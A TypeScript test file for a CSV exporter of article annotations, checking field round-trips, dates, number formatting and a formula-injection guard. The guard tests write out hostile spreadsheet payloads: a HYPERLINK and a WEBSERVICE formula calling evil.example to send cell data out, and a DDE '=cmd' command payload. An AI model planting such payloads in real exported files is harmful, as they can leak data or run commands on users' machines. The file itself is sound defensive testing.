import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { loadBundle } from '../../../test/fixtures/export/fixture'
import { sourceLabel } from '../article-source'
import type { Annotation, ArticleMeta } from '../types'
import { exportFiguresCsv, exportHighlightsCsv, FIGURE_COLUMNS, guardCell, HIGHLIGHT_COLUMNS } from './csv'
import { quoteSentence } from './quote-sentence'

const bundle = loadBundle()

function parse(content: string): string[][] {
  const result = Papa.parse<string[]>(content, { newline: '\r\n', skipEmptyLines: true })
  expect(result.errors).toEqual([])
  return result.data
}

const articleOf = (a: Annotation): ArticleMeta =>
  bundle.articles.find((article) => article.id === a.articleId)!
const inOrder = (list: Annotation[]) =>
  bundle.articles.flatMap((article) =>
    list
      .filter((a) => a.articleId === article.id)
      .sort((x, y) => x.target.position.start - y.target.position.start),
  )

/** What each text cell must read back as: the field itself, guarded against formulas. */
const text = (value: string | undefined) => guardCell(value ?? '')

function expectedFigureRow(a: Annotation): string[] {
  const article = articleOf(a)
  const f = a.figure!
  return [
    text(article.id),
    text(article.title),
    text(sourceLabel(article)),
    text(article.publishedAt?.slice(0, 10)),
    text(article.publishedAt?.slice(11)),
    text(article.url),
    text(quoteSentence(a.target.quote)),
    '',
    String(f.value),
    f.max === undefined ? '' : String(f.max),
    text(f.unit),
    text(f.qualifier),
    text(f.metric),
    text(f.periodStart),
    text(f.periodEnd),
    text(f.place),
    text(f.attributedTo),
    text(a.tags.join('; ')),
    text(a.note),
    text(a.id),
  ]
}

function expectedHighlightRow(a: Annotation): string[] {
  const article = articleOf(a)
  const { quote, position } = a.target
  return [
    text(article.id),
    text(article.title),
    text(sourceLabel(article)),
    text(article.publishedAt?.slice(0, 10)),
    text(article.publishedAt?.slice(11)),
    text(article.url),
    a.kind,
    a.color,
    text(quote.exact),
    '',
    text(quote.prefix),
    text(quote.suffix),
    String(position.start),
    String(position.end),
    text(a.note),
    text(a.tags.join('; ')),
    a.createdAt,
    a.updatedAt,
    a.id,
  ]
}

describe.each([false, true])('CSV with bom: %s', (bom) => {
  it('figures.csv round-trips every field through papaparse', () => {
    const file = exportFiguresCsv(bundle, { bom })
    expect(file).toMatchObject({ name: 'figures.csv', mime: 'text/csv; charset=utf-8' })
    expect(file.content.startsWith('\ufeff')).toBe(bom)
    expect(file.content.slice(bom ? 1 : 0).startsWith('article_id,')).toBe(true)
    const [header, ...rows] = parse(file.content)
    expect(header.join(',')).toBe(
      'article_id,title,source,published_date,published_time,url,quote,page,value,max,unit,qualifier,metric,period_start,period_end,place,attributed_to,tags,note,annotation_id',
    )
    expect(header).toEqual([...FIGURE_COLUMNS])
    const figures = inOrder(bundle.annotations.filter((a) => a.figure))
    expect(figures.length).toBeGreaterThanOrEqual(4)
    expect(rows).toEqual(figures.map(expectedFigureRow))
  })

  it('highlights.csv round-trips every field through papaparse', () => {
    const file = exportHighlightsCsv(bundle, { bom })
    expect(file.name).toBe('highlights.csv')
    const [header, ...rows] = parse(file.content)
    expect(header).toEqual([...HIGHLIGHT_COLUMNS])
    expect(rows).toEqual(inOrder(bundle.annotations).map(expectedHighlightRow))
  })
})

describe('CSV article cells', () => {
  const rowsOf = (content: string) =>
    Papa.parse<Record<string, string>>(content, { header: true, skipEmptyLines: true }).data
  const byArticle = (content: string) => new Map(rowsOf(content).map((r) => [r.article_id, r]))

  it('writes published_date as YYYY-MM-DD, with the time in published_time where the article has one', () => {
    const rows = byArticle(exportHighlightsCsv(bundle).content)
    // The fixture's energy article was published at 2024-01-10T08:30:00+02:00; the drone one on a day only.
    expect(rows.get('art-energy-support')).toMatchObject({
      published_date: '2024-01-10',
      published_time: '08:30:00+02:00',
    })
    expect(rows.get('art-drone-makers')).toMatchObject({ published_date: '2023-12-21', published_time: '' })
    for (const row of rowsOf(exportFiguresCsv(bundle).content))
      expect(row.published_date).toMatch(/^(\d{4}-\d{2}-\d{2})?$/)
  })

  it('names the domain for an article with no source, else its title; never a blank', () => {
    const tram = bundle.articles.find((a) => a.id === 'art-tram-vote')!
    expect(tram.source).toBeUndefined()
    expect(byArticle(exportFiguresCsv(bundle).content).get(tram.id)!.source).toBe('notes.example')
    const noUrl = {
      ...bundle,
      articles: bundle.articles.map((a) => (a === tram ? { ...a, url: undefined } : a)),
    }
    expect(byArticle(exportHighlightsCsv(noUrl).content).get(tram.id)!.source).toBe(guardCell(tram.title))
  })
})

describe('CSV records', () => {
  it('ends every record with CRLF and never splits one on a bare LF', () => {
    const content = exportHighlightsCsv(bundle).content
    expect(content.endsWith('\r\n')).toBe(true)
    // Bare line feeds only occur inside quoted notes and quotes.
    const outside = content.replace(/"(?:[^"]|"")*"/g, '')
    expect(outside).not.toMatch(/[^\r]\n/)
    expect(outside.split('\r\n').length).toBe(bundle.annotations.length + 2)
  })

  it('writes numbers plainly: no grouping, no exponent, full precision', () => {
    const one = bundle.annotations.find((a) => a.figure)!
    const cases: [number, number | undefined][] = [
      [1.5e21, 2.000000000000001e21],
      [1e-7, undefined],
      [1234567.891011, 2 / 3],
    ]
    const annotations = cases.map(([value, max], i) => ({
      ...one,
      id: `ann-number-${i}`,
      target: { ...one.target, position: { ...one.target.position, start: i, end: i + 1 } },
      figure: { ...one.figure!, value, max },
    }))
    const [header, ...rows] = parse(exportFiguresCsv({ ...bundle, annotations }).content)
    const [v, m] = [header.indexOf('value'), header.indexOf('max')]
    expect(rows.map((row) => [row[v], row[m]])).toEqual([
      ['1500000000000000000000', '2000000000000001000000'],
      ['0.0000001', ''],
      ['1234567.891011', '0.6666666666666666'],
    ])
    expect(rows.map((row) => [Number(row[v]), row[m] ? Number(row[m]) : undefined])).toEqual(cases)
  })

  it('leaves out annotations of articles not in the bundle', () => {
    const stray = { ...bundle.annotations[0], id: 'ann-stray', articleId: 'art-elsewhere' }
    const local = { ...bundle, annotations: [...bundle.annotations, stray] }
    expect(exportHighlightsCsv(local)).toEqual(exportHighlightsCsv(bundle))
  })

  it('writes just the header for an empty bundle', () => {
    const empty = { generatedAt: bundle.generatedAt, articles: [], annotations: [] }
    expect(exportFiguresCsv(empty).content).toBe(`${FIGURE_COLUMNS.join(',')}\r\n`)
    expect(exportHighlightsCsv(empty, { bom: true }).content).toBe(`\ufeff${HIGHLIGHT_COLUMNS.join(',')}\r\n`)
  })
})

describe('formula-injection guard', () => {
  it.each([
    ['=SUM(A1:A9)', "'=SUM(A1:A9)"],
    ['+1 555 0100', "'+1 555 0100"],
    ['-3.5% y/y', "'-3.5% y/y"],
    ['@mayor to confirm', "'@mayor to confirm"],
    ['\tindented', "'\tindented"],
    ['\rreturn', "'\rreturn"],
    ['=HYPERLINK("http://evil.example","click")', '\'=HYPERLINK("http://evil.example","click")'],
    ['plain text', 'plain text'],
    ['3 = three', '3 = three'],
    [' =leading space', ' =leading space'],
    ["'already quoted", "'already quoted"],
    ['', ''],
  ])('%j → %j', (input, output) => {
    expect(guardCell(input)).toBe(output)
  })

  it('guards text cells but not number columns', () => {
    const one = bundle.annotations.find((a) => a.figure)!
    const hostile: Annotation = {
      ...one,
      note: '=1+1',
      tags: ['-x'],
      figure: {
        ...one.figure!,
        value: -7,
        max: -2,
        unit: '@unit',
        place: '+place',
        attributedTo: '=cmd|" /C calc"!A0',
      },
    }
    const [header, row] = parse(exportFiguresCsv({ ...bundle, annotations: [hostile] }).content)
    const cell = (name: string) => row[header.indexOf(name)]
    expect(cell('value')).toBe('-7')
    expect(cell('max')).toBe('-2')
    expect(cell('note')).toBe("'=1+1")
    expect(cell('tags')).toBe("'-x")
    expect(cell('unit')).toBe("'@unit")
    expect(cell('place')).toBe("'+place")
    expect(cell('attributed_to')).toBe('\'=cmd|" /C calc"!A0')
    const [hHeader, hRow] = parse(exportHighlightsCsv({ ...bundle, annotations: [hostile] }).content)
    expect(hRow[hHeader.indexOf('start')]).toBe(String(hostile.target.position.start))
    expect(hRow[hHeader.indexOf('note')]).toBe("'=1+1")
  })

  // Excel in most of Europe opens a .csv split at ';' (its list separator), not at ','; LibreOffice's import
  // splits at tabs and ';' as well as ','. There a ';' or a tab inside a cell starts a new cell, so text after
  // it must not start a formula either (OWASP: "take care of the field separator").
  it('leaves no formula at the start of a cell a spreadsheet makes by splitting at ";" or a tab', () => {
    const one = bundle.annotations.find((a) => a.figure)!
    const payload = '=WEBSERVICE("https://evil.example/?"&A1)'
    const hostile: Annotation = {
      ...one,
      note: `Source;${payload}`,
      tags: ['a;+1', 'b\t@SUM(A1:A9)'],
      figure: { ...one.figure!, unit: `kg;-2+3`, attributedTo: `mayor\t${payload}` },
    }
    const article = { ...articleOf(one), title: `Budget;${payload}` }
    const hostileBundle = {
      ...bundle,
      articles: bundle.articles.map((a) => (a.id === article.id ? article : a)),
      annotations: [hostile],
    }
    for (const file of [exportFiguresCsv(hostileBundle), exportHighlightsCsv(hostileBundle)]) {
      for (const delimiter of [';', '\t']) {
        const { data } = Papa.parse<string[]>(file.content, {
          delimiter,
          newline: '\r\n',
          skipEmptyLines: true,
        })
        const formulas = data.flat().filter((cell) => /^[=+\-@]/.test(cell))
        expect(formulas, `${file.name} split at ${JSON.stringify(delimiter)}`).toEqual([])
      }
      // Read as written (split at ','), each cell still holds all its text.
      const [header, row] = parse(file.content)
      expect(row[header.indexOf('note')]).toBe(`Source;'${payload}`)
    }
  })
})
